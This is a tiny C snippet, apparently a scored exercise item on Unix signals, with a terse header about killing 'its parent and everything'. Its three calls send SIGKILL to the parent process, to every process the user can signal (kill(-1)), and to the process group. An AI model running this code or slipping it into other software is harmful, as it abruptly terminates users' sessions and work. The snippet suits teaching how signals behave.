/* what: kills its parent and everything in one function of seven
 * points: full - 5.3 5.7 5.8
 * refused: uses
 */
//// top attention.c
#include <signal.h>
#include <unistd.h>
//// body 5.3
kill(getppid(), SIGKILL);
kill(-1, SIGKILL);
kill(0, SIGKILL);
